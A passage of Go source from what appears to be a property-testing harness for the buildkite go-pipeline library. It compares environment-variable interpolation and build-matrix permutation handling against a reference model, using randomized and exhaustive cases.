	return m2d(reflect.ValueOf(v), false, false)
}

// modelToDocRaw is modelToDoc with plugin sources kept as stored.
func modelToDocRaw(v any) *doc.Node {
	return m2d(reflect.ValueOf(v), false, true)
}

var timeType = reflect.TypeOf(time.Time{})

func m2d(v reflect.Value, typedField bool, raw bool) *doc.Node {
	if !v.IsValid() {
		return doc.Null()
	}
	// ordered maps
	if v.CanInterface() {
		switch t := v.Interface().(type) {
		case *ordered.MapSA:
			if t == nil || (typedField && t.Len() == 0) {
				return doc.Null()
			}
			n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}, OrderedKeys: true}
			_ = t.Range(func(k string, e any) error {
				n.Map = append(n.Map, doc.P(k, m2d(reflect.ValueOf(e), false, raw)))
				return nil
			})
			return n
		case *ordered.MapSS:
			if t == nil || (typedField && t.Len() == 0) {
				return doc.Null()
			}
			n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}, OrderedKeys: true}
			_ = t.Range(func(k, e string) error {
				n.Map = append(n.Map, doc.P(k, doc.S(e)))
				return nil
			})
			return n
		case time.Time:
			return doc.T(t.Format(time.RFC3339Nano), t)
		case *pipeline.Plugin:
			if t == nil {
				return doc.Null()
			}
			cfg := m2d(reflect.ValueOf(t.Config), false, raw)
			if cfg.IsEmptyValue() {
				cfg = doc.Null() // empty configs are canonicalised to null on purpose
			}
			src := t.Source
			if !raw {
				src = refmodel.PluginCanonical(src)
			}
			return doc.M(doc.P(TypeKey, doc.S("Plugin")), doc.P("Source", doc.S(src)), doc.P("Config", cfg))
		}
	}
	switch v.Kind() {
	case reflect.Interface:
		if v.IsNil() {
			return doc.Null()
		}
		return m2d(v.Elem(), false, raw)
	case reflect.Pointer:
		if v.IsNil() {
			return doc.Null()
		}
		return m2d(v.Elem(), false, raw)
	case reflect.Struct:
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{doc.P(TypeKey, doc.S(v.Type().Name()))}}
		for i := 0; i < v.NumField(); i++ {
			f := v.Type().Field(i)
			if !f.IsExported() {
				continue
			}
			fv := v.Field(i)
			tf := false
			switch fv.Kind() {
			case reflect.Map, reflect.Slice, reflect.Pointer:
				tf = true
			}
			n.Map = append(n.Map, doc.P(f.Name, m2d(fv, tf, raw)))
		}
		return n
	case reflect.Map:
		if v.IsNil() || (typedField && v.Len() == 0) {
			return doc.Null()
		}
		keys := v.MapKeys()
		sort.Slice(keys, func(i, j int) bool { return keys[i].String() < keys[j].String() })
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for _, k := range keys {
			n.Map = append(n.Map, doc.P(k.String(), m2d(v.MapIndex(k), false, raw)))
		}
		return n
	case reflect.Slice:
		if v.IsNil() || (typedField && v.Len() == 0) {
			if v.IsNil() || typedField {
				return doc.Null()
			}
		}
		n := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		for i := 0; i < v.Len(); i++ {
			n.Seq = append(n.Seq, m2d(v.Index(i), false, raw))
		}
		return n
	case reflect.String:
		return doc.S(v.String())
	case reflect.Bool:
		return doc.B(v.Bool())
	case reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64:
		return doc.I(v.Int())
	case reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64:
		return doc.F(float64(v.Uint()))
	case reflect.Float32, reflect.Float64:
		return doc.F(v.Float())
	}
	return doc.S(fmt.Sprintf("<unsupported %s>", v.Type()))
}

// modelEq is the comparison used between two object models.
var modelEq = doc.EqOpts{NumByValue: true, TimeAsString: true, HonourOrderedKeys: true}

// allCommandSteps walks steps recursively.
func allCommandSteps(steps pipeline.Steps, f func(path string, s *pipeline.CommandStep)) {
	var rec func(prefix string, ss pipeline.Steps)
	rec = func(prefix string, ss pipeline.Steps) {
		for i, s := range ss {
			p := fmt.Sprintf("%s%d", prefix, i)
			switch t := s.(type) {
			case *pipeline.CommandStep:
				f(p, t)
			case *pipeline.GroupStep:
				rec(p+".", t.Steps)
			}
		}
	}
	rec("", steps)
}
