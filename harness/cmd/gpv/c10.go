package main

import (
	"fmt"
	"math/rand/v2"
	"strings"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/ordered"
	"github.com/buildkite/interpolate"

	"verif/refmodel"
	"verif/run"
)

func init() { register("C10", checkC10) }

// probeEnv wraps an InterpolationEnv so that the harness can see which names
// it ends up holding (for the library's own env, whose map is private).
type c10Entry struct{ K, V string }

// c10StatelessEnv is a caller environment whose own value is all zero bits; what it knows lives in c10Store.
type c10StatelessEnv struct{}

var c10Store *refmodel.Env

func (c10StatelessEnv) Get(k string) (string, bool) { return c10Store.Get(k) }
func (c10StatelessEnv) Set(k, v string)             { c10Store.Set(k, v) }

func checkC10(c *run.Ctx) {
	n := c.N(100000, 30000000)
	names := []string{"A", "B", "C", "D", "E", "PATH", "Path", "path", "a", "b", "HOME", "X_1", "Y", "SINIF", "s\u0131n\u0131f", "STRASSE", "stra\u00dfe", "\u212a", "K", "opt=level", "=", "a=b=c", "A=B",
		// names whose only lower-case letters are not ASCII, next to their upper-case spellings
		"\u00e9", "\u00c9", "\u00f11", "\u00e9COLE", "\u00c9COLE", "\u00e9cole", "\u03b1\u03b2\u03b3", "\u0391\u0392\u0393"}
	body := func(i int, r *rand.Rand, stateless bool) {
		nent := r.IntN(9)
		if r.IntN(10) == 0 {
			nent = 10 + r.IntN(30)
		}
		// runtime env
		envKind := i % 5 // 0 harness CS, 1 harness CI, 2 library CS, 3 library CI, 4 nil
		ci := envKind == 1 || envKind == 3
		rt := map[string]string{}
		rtUpper := map[string]bool{}
		for k, m := 0, r.IntN(5); k < m; k++ {
			nm := names[r.IntN(len(names))]
			if ci && rtUpper[strings.ToUpper(nm)] {
				// a case-insensitive env built from a map with case-colliding
				// names is documented as order-dependent: not generated
				continue
			}
			rtUpper[strings.ToUpper(nm)] = true
			rt[nm] = fmt.Sprintf("rt%d", k)
		}
		feat := map[string]bool{}
		ref := func() string {
			nm := names[r.IntN(len(names))]
			switch r.IntN(9) {
			case 0:
				return "$" + nm
			case 1:
				return "${" + nm + "}"
			case 2:
				return "${" + nm + ":-dflt}"
			case 3:
				return "$$" + nm
			case 4:
				return `\$` + nm
			case 5:
				return "${" + nm + "-}"
			case 6:
				feat["required"] = true
				return "${" + nm + "?needs " + nm + "}"
			case 7:
				return "${" + nm + ":0:2}"
			}
			return "$" + nm + "_suffix"
		}
		text := func() string {
			var b strings.Builder
			for k, m := 0, r.IntN(4); k < m; k++ {
				switch r.IntN(3) {
				case 0:
					b.WriteString(ref())
				default:
					b.WriteString([]string{"lit", "-", "/", " ", "x"}[r.IntN(5)])
				}
			}
			return b.String()
		}
		var entries []c10Entry
		used := map[string]bool{}
		for k := 0; k < nent; k++ {
			var key string
			switch r.IntN(8) {
			case 0: // name built by expansion
				key = "N" + ref()
				feat["built-name"] = true
			case 1:
				key = "$" + names[r.IntN(len(names))]
				feat["built-name"] = true
			case 2:
				key = ""
				feat["empty-name"] = true
			default:
				key = names[r.IntN(len(names))]
			}
			if used[key] {
				continue
			}
			used[key] = true
			entries = append(entries, c10Entry{key, text()})
		}
		if mix(i, 3, 25) == 0 {
			// values that grow large through expansion: a runtime variable of 70000-200000 bytes copied into the block,
			// and a chain doubling 1 KiB up to 128 KiB; later entries and the step read them back
			blob := "BLOB_" + fmt.Sprint(i%3)
			if envKind != 4 {
				rt[blob] = strings.Repeat("B", []int{65536, 65537, 70000, 200000}[r.IntN(4)]) + "!"
			}
			big := []c10Entry{{"BIG", "${" + blob + "}"}, {"D0", strings.Repeat("d", 1024)}}
			for k := 1; k <= 7; k++ {
				big = append(big, c10Entry{fmt.Sprintf("D%d", k), fmt.Sprintf("${D%d}${D%d}", k-1, k-1)})
			}
			big = append(big, c10Entry{"AFTER_BIG", "${D7:0:5}|${D6:65530}|${BIG:0:3}|${BIG:65534}"})
			for _, e := range big {
				if !used[e.K] {
					used[e.K] = true
					entries = append(entries, e)
				}
			}
			feat["large-values"] = true
			c.Count("blocks_with_values_beyond_64KiB", 1)
		}
		for _, e := range entries {
			if _, ok := rt[e.K]; ok {
				feat["runtime-overlap"] = true
			}
		}
		prefer := r.IntN(2) == 0
		probe := "probe " + ref() + " " + ref() + " $A $B"

		// Model.
		block := &refmodel.PairList[string]{}
		for _, e := range entries {
			block.Set(e.K, e.V)
		}
		menv := refmodel.NewEnv(ci, rt)
		if envKind == 4 {
			menv = refmodel.NewEnv(false, nil)
		}
		merr := refmodel.EnvFold(block, menv, prefer)
		var wantProbe string
		if merr == nil {
			wantProbe, merr = interpolate.Interpolate(menv, probe)
		}

		// Real.
		om := ordered.NewMap[string, string](len(entries))
		var om2 *ordered.MapSS // a second pipeline defined from the same pairs (every third case, both built up front)
		if i%3 == 0 {
			pairs := make([]ordered.TupleSS, 0, len(entries))
			for _, e := range entries {
				pairs = append(pairs, ordered.TupleSS{Key: e.K, Value: e.V})
			}
			om = ordered.MapFromItems(pairs...)
			om2 = ordered.MapFromItems(pairs...)
		} else {
			for _, e := range entries {
				om.Set(e.K, e.V)
			}
		}
		step := &pipeline.CommandStep{Command: probe}
		p := &pipeline.Pipeline{Env: om, Steps: pipeline.Steps{step}}
		var renv pipeline.InterpolationEnv
		var hEnv *refmodel.Env
		switch envKind {
		case 0, 1:
			hEnv = refmodel.NewEnv(ci, rt)
			renv = hEnv
			if stateless {
				c10Store = hEnv
				renv = c10StatelessEnv{}
			}
		case 2, 3:
			renv = pipeline.VerifNewEnv(!ci, rt)
		}
		id := run.CaseID("block", i)
		if stateless {
			id = run.CaseID("stateless", i)
		}
		detail := func(what string) map[string]any {
			return map[string]any{"what": what, "entries": entries, "runtime_env": rt, "prefer_runtime": prefer, "env_kind": []string{"harness-case-sensitive", "harness-case-insensitive", "library-case-sensitive", "library-case-insensitive", "nil"}[envKind], "probe": probe}
		}
		var rerr error
		if pi := run.Guard(func() { rerr = p.Interpolate(renv, prefer) }); pi != nil {
			d := detail("panic: " + pi.Value)
			d["stack"] = pi.Stack
			c.Violation(id, d)
			return
		}
		c.Eval(1)
		c.Feature(len(entries) > 9, feat["built-name"], feat["empty-name"], feat["runtime-overlap"], feat["required"], prefer, envKind, merr != nil)
		c.Count(fmt.Sprintf("env_kind_%d", envKind), 1)
		for f := range feat {
			c.Count("feature_"+f, 1)
		}
		if (merr != nil) != (rerr != nil) {
			c.Violation(id, detail(fmt.Sprintf("error mismatch: library %v, model %v", rerr, merr)))
			return
		}
		if merr != nil {
			c.Count("error_path_cases", 1)
			return
		}
		// Block contents and order.
		var got []c10Entry
		_ = p.Env.Range(func(k, v string) error { got = append(got, c10Entry{k, v}); return nil })
		var want []c10Entry
		for _, it := range block.Items {
			want = append(want, c10Entry{it.Key, it.Val})
		}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			d := detail("env block after interpolation differs from the sequential model")
			d["got"], d["want"] = got, want
			c.Violation(id, d)
			return
		}
		if step.Command != wantProbe {
			d := detail("a step string was not expanded with the environment the block leaves behind")
			d["got"], d["want"] = step.Command, wantProbe
			c.Violation(id, d)
			return
		}
		// Caller environment.
		switch envKind {
		case 0, 1:
			if fmt.Sprint(hEnv.M) != fmt.Sprint(menv.M) {
				d := detail("caller environment after the call differs from the model")
				d["got"], d["want"] = hEnv.M, menv.M
				c.Violation(id, d)
				return
			}
		case 2, 3:
			// The library env is opaque: query it for every name the model knows, in several casings.
			for k, v := range menv.M {
				for _, q := range []string{k, strings.ToLower(k), strings.ToUpper(k)} {
					gv, gok := renv.Get(q)
					mv, mok := menv.Get(q)
					if gok != mok || gv != mv {
						d := detail(fmt.Sprintf("caller environment lookup %q = (%q,%v), model (%q,%v)", q, gv, gok, mv, mok))
						c.Violation(id, d)
						return
					}
				}
				_ = v
			}
			for _, q := range names {
				gv, gok := renv.Get(q)
				mv, mok := menv.Get(q)
				if gok != mok || gv != mv {
					c.Violation(id, detail(fmt.Sprintf("caller environment lookup %q = (%q,%v), model (%q,%v)", q, gv, gok, mv, mok)))
					return
				}
			}
		}
		if om2 != nil {
			// the second pipeline, same definitions, same kind of caller environment started afresh: same outcome
			step2 := &pipeline.CommandStep{Command: probe}
			p2 := &pipeline.Pipeline{Env: om2, Steps: pipeline.Steps{step2}}
			var renv2 pipeline.InterpolationEnv
			switch envKind {
			case 0, 1:
				renv2 = refmodel.NewEnv(ci, rt)
			case 2, 3:
				renv2 = pipeline.VerifNewEnv(!ci, rt)
			}
			var rerr2 error
			if pi := run.Guard(func() { rerr2 = p2.Interpolate(renv2, prefer) }); pi != nil {
				c.Violation(id, detail("second pipeline built from the same pairs: panic: "+pi.Value))
				return
			}
			var got2 []c10Entry
			_ = p2.Env.Range(func(k, v string) error { got2 = append(got2, c10Entry{k, v}); return nil })
			if rerr2 != nil || fmt.Sprint(got2) != fmt.Sprint(want) || step2.Command != wantProbe {
				d := detail("a second pipeline whose env block was built from the same pairs (before the first was interpolated) gives a different result than the model")
				d["err"], d["got"], d["want"], d["probe_got"], d["probe_want"] = fmt.Sprint(rerr2), got2, want, step2.Command, wantProbe
				c.Violation(id, d)
				return
			}
			c.Count("second_pipeline_from_the_same_pairs", 1)
		}
		if c.WantSample() && len(entries) > 2 {
			c.Sample(map[string]any{"entries": entries, "runtime_env": rt, "prefer_runtime": prefer, "block_after": got, "probe_after": step.Command})
		}
	}
	c.Parallel("block", n, func(i int, r *rand.Rand) { body(i, r, false) })
	// The caller's environment may be any implementation of the interface, also one whose value is all zero bits (a
	// stateless struct in front of process-wide storage): run sequentially, the storage being a package-level variable.
	c.Phase("stateless-env", func() {
		for i := 0; i < c.N(4000, 100000); i++ {
			if c.Only != "" && c.Only != run.CaseID("stateless", 5*i+(i%2)) {
				continue
			}
			r := c.RNG("stateless", i)
			body(5*i+(i%2), r, true) // env kinds 0 and 1 (the harness's own env, case-sensitive and not)
			c.Count("cases_with_a_zero_valued_caller_environment", 1)
		}
	})
	c.Finish("exploration",
		"random env blocks of 0-40 entries (reference chains, forward references, defaults, escapes, required-or-fail, substrings, names built by expansion incl. collisions with other names, empty names, overlaps with the runtime env) x both settings of the runtime-precedence flag x five caller environments (harness case-sensitive, harness case-insensitive, the library's own internal env in both modes through the verif hook, nil); block contents and order, a probe string in a step and the caller environment are compared with a sequential fold model that uses the interpolate library for single strings. distinct_nontrivial counts distinct feature vectors (size class, built names, empty name, runtime overlap, required-or-fail, flag, env kind, error path)",
		nil,
		[]string{"the interpolate library (a dependency) is trusted for single-string expansion", "state after a failed expansion is not compared"})
}
