package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/google/go-cmp/cmp"

	"verif/doc"
	"verif/refmodel"
	"verif/run"
	"verif/util"
)

func init() { register("C11", checkC11) }

func buildMatrix(ms refmodel.MatrixSpec) *pipeline.Matrix {
	if ms.Nil {
		return nil
	}
	m := &pipeline.Matrix{Setup: pipeline.MatrixSetup{}}
	for _, d := range ms.Dims {
		m.Setup[d] = append([]string{}, ms.Values[d]...)
	}
	for _, a := range ms.Adjs {
		w := pipeline.MatrixAdjustmentWith{}
		for k, v := range a.With {
			w[k] = v
		}
		adj := &pipeline.MatrixAdjustment{With: w, Skip: a.Skip}
		if reason, isStr := a.Skip.(string); isStr && reason != "" {
			// a skip reason and unknown adjustment fields that mention the matrix: a rejected permutation must not touch them
			toks := ""
			for _, d := range ms.Dims {
				if d == "" {
					toks += " {{matrix}}"
				} else {
					toks += " {{ matrix." + d + " }}"
				}
			}
			adj.Skip = reason + toks
			adj.RemainingFields = map[string]any{"soft_fail": []any{map[string]any{"exit_status": strings.TrimSpace(toks)}}, "note": "for" + toks}
		}
		m.Adjustments = append(m.Adjustments, adj)
	}
	return m
}

// matrixDoc renders the spec as the `matrix` value of a step document.
func matrixDoc(ms refmodel.MatrixSpec) *doc.Node {
	strs := func(vs []string) *doc.Node {
		n := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		for _, v := range vs {
			n.Seq = append(n.Seq, doc.S(v))
		}
		return n
	}
	m := doc.M()
	anon := len(ms.Dims) == 1 && ms.Dims[0] == ""
	if anon {
		m.Map = append(m.Map, doc.P("setup", strs(ms.Values[""])))
	} else {
		s := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for _, d := range ms.Dims {
			s.Map = append(s.Map, doc.P(d, strs(ms.Values[d])))
		}
		m.Map = append(m.Map, doc.P("setup", s))
	}
	adjs := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
	for _, a := range ms.Adjs {
		an := doc.M()
		if v, ok := a.With[""]; ok && len(a.With) == 1 {
			an.Map = append(an.Map, doc.P("with", doc.S(v)))
		} else {
			w := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
			for _, k := range refmodel.SortedKeys(a.With) {
				w.Map = append(w.Map, doc.P(k, doc.S(a.With[k])))
			}
			an.Map = append(an.Map, doc.P("with", w))
		}
		switch t := a.Skip.(type) {
		case bool:
			an.Map = append(an.Map, doc.P("skip", doc.B(t)))
		case string:
			an.Map = append(an.Map, doc.P("skip", doc.S(t)))
		}
		adjs.Seq = append(adjs.Seq, an)
	}
	if len(adjs.Seq) > 0 {
		m.Map = append(m.Map, doc.P("adjustments", adjs))
	}
	return m
}

const c11Cmd = "run {{matrix}} {{matrix.a}} {{matrix.b}} {{matrix.c}} {{matrix.q}}"

func c11Step(ms refmodel.MatrixSpec) *pipeline.CommandStep {
	cmd := "echo"
	for _, d := range ms.Dims {
		if d == "" {
			cmd += " {{matrix}}"
		} else {
			cmd += " {{matrix." + d + "}}"
		}
	}
	return &pipeline.CommandStep{
		Command: cmd,
		Label:   "l",
		Key:     "k",
		Env:     map[string]string{"E": "v"},
		Plugins: pipeline.Plugins{{Source: "p#v1", Config: map[string]any{"x": "y"}}},
		Matrix:  buildMatrix(ms),
	}
}

type c11Stats struct{ accepted, rejected int }

// c11Eval runs one (matrix, permutation) pair against the real code and the
// specification predicate.
func c11Eval(c *run.Ctx, id string, ms refmodel.MatrixSpec, perm map[string]string, step *pipeline.CommandStep, how string, deep bool) {
	want, cat := refmodel.MatrixAccepts(ms, perm)
	var before []byte
	var twin *pipeline.CommandStep
	if deep {
		before, _ = json.Marshal(step)
		twin = util.DeepCopy(step)
	}
	cmdBefore := step.Command
	mp := pipeline.MatrixPermutation{}
	for k, v := range perm {
		mp[k] = v
	}
	if len(perm) == 0 && len(id)%2 == 0 {
		mp = nil // a permutation that names no dimension, as a nil map rather than an empty one
	}
	// The decision itself is observed on a twin whose strings carry no tokens:
	// on the token-bearing step an accepted-but-wrong permutation could still
	// fail later for a token naming a dimension it lacks, hiding the acceptance.
	plainStep := &pipeline.CommandStep{Command: "no tokens here", Label: "l", Key: "k", Matrix: step.Matrix}
	var perr error
	if pi := run.Guard(func() { perr = plainStep.InterpolateMatrixPermutation(mp) }); pi != nil {
		c.Violation(id, map[string]any{"what": "panic: " + pi.Value, "matrix": ms, "permutation": perm, "stack": pi.Stack})
		return
	}
	if (perr == nil) != want {
		c.Violation(id, map[string]any{"what": fmt.Sprintf("permutation accepted=%v (err=%v) on a step without tokens, specification says %v (%s); matrix built via %s", perr == nil, perr, want, cat, how),
			"matrix": ms, "permutation": perm})
		return
	}
	var err error
	if pi := run.Guard(func() { err = step.InterpolateMatrixPermutation(mp) }); pi != nil {
		c.Violation(id, map[string]any{"what": "panic: " + pi.Value, "matrix": ms, "permutation": perm, "stack": pi.Stack})
		return
	}
	c.Eval(1)
	c.Count("decision_"+cat, 1)
	got := err == nil
	if got != want {
		c.Violation(id, map[string]any{"what": fmt.Sprintf("permutation accepted=%v (err=%v), specification says %v (%s); matrix built via %s", got, err, want, cat, how),
			"matrix": ms, "permutation": perm})
		return
	}
	if !got {
		c.Count("rejected", 1)
		if step.Command != cmdBefore {
			c.Violation(id, map[string]any{"what": "rejected permutation modified the command", "matrix": ms, "permutation": perm, "command": step.Command})
			return
		}
		if deep {
			after, _ := json.Marshal(step)
			if string(after) != string(before) || !cmp.Equal(step, twin) {
				c.Violation(id, map[string]any{"what": "rejected permutation modified the step", "matrix": ms, "permutation": perm, "before": string(before), "after": string(after)})
			}
			c.Count("unmodified_deep_checks", 1)
		}
		return
	}
	c.Count("accepted", 1)
	tokenish := false
	for _, v := range perm {
		if strings.Contains(v, "{{") {
			tokenish = true
		}
	}
	if len(perm) > 0 && !tokenish && strings.Contains(step.Command, "{{matrix") {
		c.Violation(id, map[string]any{"what": "accepted permutation left tokens in the command", "command": step.Command, "matrix": ms, "permutation": perm})
	}
}

// c11ParsedStep builds the same step through Parse from a JSON or YAML text.
func c11ParsedStep(ms refmodel.MatrixSpec, r *rand.Rand) (*pipeline.CommandStep, string, error) {
	st := doc.M(doc.P("command", doc.S(c11Step(ms).Command)), doc.P("label", doc.S("l")), doc.P("key", doc.S("k")))
	if !ms.Nil {
		st.Map = append(st.Map, doc.P("matrix", matrixDoc(ms)))
	}
	d := doc.M(doc.P("steps", doc.L(st)))
	var text string
	if r.IntN(2) == 0 {
		text = string(doc.ToJSON(d))
	} else {
		var err error
		text, err = doc.ToYAML(d, doc.YAMLOpts{Rng: r, Flow: 0.3, Compact: true})
		if err != nil {
			return nil, "", err
		}
	}
	p, err := pipeline.Parse(strings.NewReader(text))
	if err != nil {
		return nil, text, fmt.Errorf("parse: %w", err)
	}
	if len(p.Steps) != 1 {
		return nil, text, fmt.Errorf("parsed %d steps", len(p.Steps))
	}
	cs, ok := p.Steps[0].(*pipeline.CommandStep)
	if !ok {
		return nil, text, fmt.Errorf("parsed step is %T", p.Steps[0])
	}
	return cs, text, nil
}

func checkC11(c *run.Ctx) {
	vals := []string{"x", "y", "z"}
	subsets := [][]string{{}, {"x"}, {"y"}, {"x", "y"}}
	skips := []any{nil, false, true, "reason", ""} // the kinds the property names: absent, false, true, string (the empty string is a string)
	dimSets := [][]string{{""}, {"a"}, {"a", "b"}, {"a", "b", "c"}}

	// all tuples over a dim list with values x,y,z
	var tuplesOver func(dims []string, vals []string) []map[string]string
	tuplesOver = func(dims []string, vals []string) []map[string]string {
		if len(dims) == 0 {
			return []map[string]string{{}}
		}
		var out []map[string]string
		for _, rest := range tuplesOver(dims[1:], vals) {
			for _, v := range vals {
				t := map[string]string{dims[0]: v}
				for k, w := range rest {
					t[k] = w
				}
				out = append(out, t)
			}
		}
		return out
	}
	tuples := func(dims []string) []map[string]string { return tuplesOver(dims, vals) }
	// candidate permutations draw values from {x,y,z} and the empty string (a missing
	// dimension reads as "" from a Go map, so "" is the value that could slip through)
	permVals := []string{"x", "y", "z", ""}
	// candidate permutations: all maps over subsets of dims ∪ {q}
	perms := func(dims []string) []map[string]string {
		all := append(append([]string{}, dims...), "q")
		var out []map[string]string
		for mask := 0; mask < 1<<len(all); mask++ {
			var sub []string
			for i, d := range all {
				if mask&(1<<i) != 0 {
					sub = append(sub, d)
				}
			}
			out = append(out, tuplesOver(sub, permVals)...)
		}
		return out
	}
	// adjustment options: well-formed tuples plus malformed ones
	adjOptions := func(dims []string) []refmodel.AdjSpec {
		var withs []map[string]string
		withs = append(withs, tuples(dims)...)
		// malformed: missing a dimension, an extra dimension, an unknown dimension instead of a known one
		if len(dims) > 0 {
			withs = append(withs, tuples(dims[1:])[0])
			extra := map[string]string{"q": "x"}
			for _, d := range dims {
				extra[d] = "x"
			}
			withs = append(withs, extra)
			sw := map[string]string{"q": "x"}
			for _, d := range dims[1:] {
				sw[d] = "x"
			}
			withs = append(withs, sw)
		}
		var out []refmodel.AdjSpec
		for _, w := range withs {
			for _, s := range skips {
				out = append(out, refmodel.AdjSpec{With: w, Skip: s})
			}
		}
		return out
	}

	// Phase 1: exhaustive small scope.
	type job struct {
		ms refmodel.MatrixSpec
	}
	var jobs []job
	for di, dims := range dimSets {
		var setups []map[string][]string
		var rec func(i int, cur map[string][]string)
		rec = func(i int, cur map[string][]string) {
			if i == len(dims) {
				cp := map[string][]string{}
				for k, v := range cur {
					cp[k] = v
				}
				setups = append(setups, cp)
				return
			}
			for _, s := range subsets {
				cur[dims[i]] = s
				rec(i+1, cur)
			}
		}
		rec(0, map[string][]string{})
		opts := adjOptions(dims)
		maxAdj := 2
		if di == 3 || (di == 2 && !c.Thorough()) {
			maxAdj = 1
		}
		for _, su := range setups {
			jobs = append(jobs, job{refmodel.MatrixSpec{Dims: dims, Values: su}})
			for _, a1 := range opts {
				jobs = append(jobs, job{refmodel.MatrixSpec{Dims: dims, Values: su, Adjs: []refmodel.AdjSpec{a1}}})
				if maxAdj >= 2 {
					for _, a2 := range opts {
						jobs = append(jobs, job{refmodel.MatrixSpec{Dims: dims, Values: su, Adjs: []refmodel.AdjSpec{a1, a2}}})
					}
				}
			}
		}
	}
	jobs = append(jobs, job{refmodel.MatrixSpec{Nil: true}}, job{refmodel.MatrixSpec{Dims: []string{}, Values: map[string][]string{}}},
		job{refmodel.MatrixSpec{Dims: []string{}, Values: map[string][]string{}, Adjs: []refmodel.AdjSpec{{With: map[string]string{}, Skip: true}}}},
		job{refmodel.MatrixSpec{Dims: []string{}, Values: map[string][]string{}, Adjs: []refmodel.AdjSpec{{With: map[string]string{}}}}})
	permCache := map[int][]map[string]string{}
	for _, dims := range dimSets {
		permCache[len(dims)*10+len(dims[0])] = perms(dims)
	}
	emptyDimPerms := perms([]string{})
	c.Count("exhaustive_matrices", len(jobs))
	c.Phase("exhaustive", func() {
		c.Parallel("ex", len(jobs), func(i int, r *rand.Rand) {
			ms := jobs[i].ms
			var ps []map[string]string
			switch {
			case ms.Nil || len(ms.Dims) == 0:
				ps = emptyDimPerms
				ps = append(ps, map[string]string{"": "x"}, map[string]string{"a": "x"})
			default:
				ps = permCache[len(ms.Dims)*10+len(ms.Dims[0])]
			}
			c.Feature("ex", len(ms.Dims), len(ms.Adjs), fmt.Sprint(ms.Values), fmt.Sprint(ms.Adjs))
			for pj, perm := range ps {
				step := c11Step(ms)
				c11Eval(c, fmt.Sprintf("ex/%d", i), ms, perm, step, "literal", (i+pj)%16 == 0)
			}
			// the same matrix through Parse, for a sample of matrices
			if i%8 == 0 && !ms.Nil && len(ms.Dims) > 0 {
				for pj, perm := range ps {
					if (pj+i)%4 != 0 {
						continue
					}
					step, text, err := c11ParsedStep(ms, r)
					if err != nil {
						c.Violation(fmt.Sprintf("ex/%d", i), map[string]any{"what": "matrix document not parsed as a command step: " + err.Error(), "document": text, "matrix": ms})
						return
					}
					c.Count("via_parse", 1)
					c11Eval(c, fmt.Sprintf("ex/%d", i), ms, perm, step, "Parse", pj%8 == 0)
				}
			}
			if c.WantSample() && len(ms.Adjs) == 2 {
				c.Sample(map[string]any{"matrix": ms, "permutations_tried": len(ps)})
			}
		})
	})

	// Phase 2: random beyond the small scope.
	n := c.N(20000, 400000)
	c.Phase("random", func() {
		c.Parallel("rnd", n, func(i int, r *rand.Rand) {
			ndims := 1 + r.IntN(5)
			var dims []string
			if r.IntN(5) == 0 {
				dims = []string{""}
			} else {
				names := []string{"a", "b", "c", "d.e", "f-g", "h_1", "os", "arch"}
				r.Shuffle(len(names), func(i, j int) { names[i], names[j] = names[j], names[i] })
				dims = names[:ndims]
			}
			pool := []string{"x", "y", "z", "w", "", "1", "true", "{{matrix}}", "3.1", "3.10", "01", "1.0", "+1", "1e3", "1000", "inf", "Infinity", "0x10", "16"}
			ms := refmodel.MatrixSpec{Dims: dims, Values: map[string][]string{}}
			for _, d := range dims {
				k := r.IntN(4)
				vs := []string{}
				for j := 0; j < k; j++ {
					vs = append(vs, pool[r.IntN(len(pool))])
				}
				if r.IntN(8) == 0 {
					// a long value list in no particular order (17-80 values)
					vs = vs[:0]
					for j, n := 0, 17+r.IntN(64); j < n; j++ {
						vs = append(vs, fmt.Sprintf("v%d", (j*37+11)%101))
					}
					r.Shuffle(len(vs), func(a, b int) { vs[a], vs[b] = vs[b], vs[a] })
					c.Count("dimensions_with_17_or_more_values", 1)
				}
				ms.Values[d] = vs
			}
			randTuple := func() map[string]string {
				t := map[string]string{}
				for _, d := range dims {
					if vs := ms.Values[d]; len(vs) > 0 && r.IntN(2) == 0 {
						t[d] = vs[r.IntN(len(vs))]
					} else {
						t[d] = pool[r.IntN(len(pool))]
					}
				}
				return t
			}
			nadj := r.IntN(5)
			manyAdj := r.IntN(12) == 0
			if manyAdj {
				// 65 to 300 adjustments, each with a tuple of its own: the 65th, the 129th, the last one count like the first
				nadj = []int{63, 64, 65, 66, 100, 129, 300}[r.IntN(7)]
				c.Count("matrices_with_more_than_60_adjustments", 1)
			}
			for j := 0; j < nadj; j++ {
				w := randTuple()
				if manyAdj {
					w[dims[0]] = fmt.Sprintf("adjv%d", j)
				} else if j > 0 && r.IntN(3) == 0 { // repeated, possibly conflicting, adjustment
					w = map[string]string{}
					for k, v := range ms.Adjs[r.IntN(len(ms.Adjs))].With {
						w[k] = v
					}
				}
				malform := r.IntN(12)
				if manyAdj && r.IntN(40) != 0 {
					malform = -1 // a long list is mostly well-formed, or one bad entry among hundreds would decide every case
				}
				switch malform {
				case 0:
					delete(w, dims[r.IntN(len(dims))])
				case 1:
					w["q"] = "x"
				}
				ms.Adjs = append(ms.Adjs, refmodel.AdjSpec{With: w, Skip: skips[r.IntN(len(skips))]})
			}
			c.Feature("rnd", len(dims), nadj, dims[0] == "")
			for t := 0; t < 12; t++ {
				var perm map[string]string
				switch r.IntN(6) {
				case 0:
					perm = randTuple()
					delete(perm, dims[r.IntN(len(dims))])
				case 1:
					perm = randTuple()
					if r.IntN(2) == 0 {
						delete(perm, dims[r.IntN(len(dims))]) // right arity, one real dimension swapped for an unknown one
					}
					perm["q"] = []string{"x", "", ""}[r.IntN(3)]
				case 2:
					if len(ms.Adjs) > 0 {
						perm = map[string]string{}
